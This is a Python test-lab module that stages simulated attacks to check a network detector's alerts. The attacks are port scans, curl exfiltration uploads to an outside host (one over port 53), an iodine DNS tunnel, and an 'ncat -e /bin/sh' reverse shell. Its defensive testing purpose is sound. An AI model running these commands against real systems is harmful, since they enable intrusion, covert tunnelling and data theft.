"""The attacks of the chain: real tools in a pod, each going on until it is stopped from outside."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.lab import pods
from tests.lab.pods import BY_NAME
from tests.lab.scenarios.dns_tunnel import INSIDE, SECRET, ZONE
from tests.lab.scenarios.reverse_shell import LISTENER, PORT
from tests.lab.stage import Stage, cluster_dns

SITE = pods.OUTSIDE_WEB[8]
_PART = 4_000_000  # bytes of one upload; the limit of the detector is 25 of them
# A handshake that completes proves the scanner's address; without one a scan may be anybody's and is left alone.
_FOUND = 5
_IN_ONE = (
    "head -c 4G /dev/zero | curl -sS -o /dev/null --limit-rate 20M -H Expect: "
    f"-H 'Content-Length: 4294967296' -T - http://{SITE}:8080/100"
)
_TYPED = "while sleep 1.5; do echo id; done"


@dataclass(frozen=True)
class Attack:
    """One attack by `pod` on `victims`.

    `prepare` starts what it meets, `begin` the attack itself; both get a folder for files. The alert is of `kind`.
    `established`: its packets belong to what was open before the policy, so that enforcers let it live on.
    """

    name: str
    kind: str
    pod: str
    victims: tuple[str, ...]
    prepare: Callable[[Stage, Path], None]
    begin: Callable[[Stage, Path], None]
    detected_within: float = 40.0
    established: bool = False
    ipv6: bool = False

    @property
    def source(self) -> str:
        """The address that it comes from."""
        return BY_NAME[self.pod].ip6 if self.ipv6 else BY_NAME[self.pod].ip4


def _again(stage: Stage, where: str, command: str) -> None:
    """The same command for ever: an attacker's script tries again."""
    stage.begin(where, ["sh", "-c", f"while :; do {command}; done"])


def _open_port(stage: Stage, _folder: Path) -> None:
    stage.server("web", f"http {_FOUND}")


def _scan(stage: Stage, _folder: Path) -> None:
    """A scan as a pod without the right to raw sockets makes it: by the calls that every program has."""
    _again(stage, "attacker", f"nmap -sT -r -n -Pn --max-retries 0 --max-rate 200 -p 1-20000 {BY_NAME['web'].ip4}")


def _scan6(stage: Stage, _folder: Path) -> None:
    _again(stage, "attacker", f"nmap -6 -sT -r -n -Pn --max-retries 0 --max-rate 200 -p 1-20000 {BY_NAME['web'].ip6}")


def _site(stage: Stage, folder: Path, pod: str = "client4", port: int = 8080) -> None:
    """A collector outside, and frames of 9,000 bytes on the way to it, as many clusters have."""
    for link in (BY_NAME[pod].veth, "br0", pods.UPLINK):
        stage.tool("node", f"ip link set {link} mtu 9000")
    for where in (pod, pods.OUTSIDE):
        stage.tool(where, "ip link set eth0 mtu 9000")
    stage.server(pods.OUTSIDE, f"upload {port}")
    with (folder / "part").open("wb") as file:
        file.truncate(_PART)


def _site_at_53(stage: Stage, folder: Path) -> None:
    _site(stage, folder, "client3", 53)


def _upload_to_53(stage: Stage, folder: Path) -> None:
    _upload(stage, folder, "client3", 53)


def _upload(stage: Stage, folder: Path, pod: str = "client4", port: int = 8080) -> None:
    options = "-sS -o /dev/null --max-time 5 --limit-rate 40M -H Expect:"
    _again(stage, pod, f"curl {options} -T {folder / 'part'} http://{SITE}:{port}/100")


def upload_once_it_can(stage: Stage) -> None:
    """One connection that goes on for minutes, from the moment at which one can be opened."""
    _again(stage, "client4", f"{_IN_ONE} || sleep 0.02")


def _upload_in_one(stage: Stage, _folder: Path) -> None:
    stage.begin("client4", ["sh", "-c", _IN_ONE])


def _resolver(stage: Stage, _folder: Path) -> None:
    cluster_dns(stage)
    stage.server(pods.OUTSIDE, f"names 53 --address {pods.OUTSIDE_SINK}", udp=True)


def _leak(stage: Stage, _folder: Path) -> None:
    stage.lookup("client3", f"leak --server {BY_NAME['dns'].ip4} --rate 30 --count 1000000 --seed 41")


def _tunnel_end(stage: Stage, _folder: Path) -> None:
    cluster_dns(stage)
    served = f"iodined -f -c -P {SECRET} -l {pods.OUTSIDE_IODINE} {INSIDE}/24 {ZONE}"
    stage.listening(stage.begin(pods.OUTSIDE, served), 53, udp=True)


def _tunnel(stage: Stage, _folder: Path) -> None:
    stage.begin("client3", f"iodine -f -r -m 1000 -I 1 -T NULL -P {SECRET} {BY_NAME['dns'].ip4} {ZONE}")
    _again(stage, "client3", f"ping -q -c 5 -i 0.2 {INSIDE} >/dev/null 2>&1 || sleep 0.2")


def _listener(stage: Stage, _folder: Path) -> None:
    child = stage.begin(pods.OUTSIDE, ["sh", "-c", f"({_TYPED}) | ncat -l {LISTENER} {PORT} >/dev/null"])
    stage.listening(child, PORT, udp=False)


def _shell(stage: Stage, _folder: Path) -> None:
    stage.begin("web", ["ncat", LISTENER, str(PORT), "-e", "/bin/sh"])


ATTACKS = (
    Attack("scan", "port_scan_vertical", "attacker", (BY_NAME["web"].ip4,), _open_port, _scan),
    Attack("scan6", "port_scan_vertical", "attacker", (BY_NAME["web"].ip6,), _open_port, _scan6, ipv6=True),
    Attack("upload", "exfiltration", "client4", (SITE,), _site, _upload),
    Attack("dns", "dns_tunnel", "client3", (BY_NAME["dns"].ip4,), _resolver, _leak),
    Attack("shell", "reverse_shell", "web", (LISTENER,), _listener, _shell, 100.0, established=True),
    Attack("long_upload", "exfiltration", "client4", (SITE,), _site, _upload_in_one, established=True),
    Attack("iodine", "dns_tunnel", "client3", (BY_NAME["dns"].ip4,), _tunnel_end, _tunnel, established=True),
)
# By the way that the production template leaves open to everybody: `to: []`, port 53.
BY_PORT_53 = Attack("upload53", "exfiltration", "client3", (SITE,), _site_at_53, _upload_to_53)
BY_ATTACK = {attack.name: attack for attack in ATTACKS}
